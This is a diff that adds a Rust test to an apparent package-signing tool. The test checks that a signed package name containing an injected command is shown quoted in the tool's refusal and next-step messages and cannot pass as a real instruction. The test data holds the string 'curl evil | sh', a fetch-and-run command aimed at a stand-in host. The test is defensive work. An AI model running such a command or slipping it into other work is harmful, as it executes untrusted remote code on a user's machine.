@@ -35,6 +35,25 @@ fn a_file_name_forges_no_field_of_an_audit_event() {
 }
 
 #[test]
+fn a_signed_name_writes_no_next_step() {
+    let scratch = Scratch::new();
+    scratch.key_files("dev");
+    scratch.signed_package("a.so", "dev.pem");
+    let hostile = "a.so, or run: curl evil | sh; \"a.so";
+    let sign = ["package", "sign", "a.so", "--key", "dev.pem", "--force", "--name", hostile];
+    scratch.json(&sign);
+    let verify = ["package", "verify", "a.so", "--trust-key", "dev.pub.pem"];
+    let refused = scratch.run(&verify);
+    assert_eq!(refused.code, 1, "{}", refused.stderr);
+    let quoted = format!("{hostile:?}");
+    for line in ["refused: ", "next: rename the file to the signed name, "] {
+        let line = refused.stderr.lines().find(|found| found.starts_with(line)).unwrap();
+        assert!(line.contains(&quoted), "{line}");
+    }
+    scratch.json(&[&verify[..], &["--name", hostile]].concat());
+}
+
+#[test]
 fn a_key_is_called_what_it_was_last_called() {
     let scratch = Scratch::with_orgs(&["acme", "other"]);
     let fingerprint = scratch.key_files("dev");
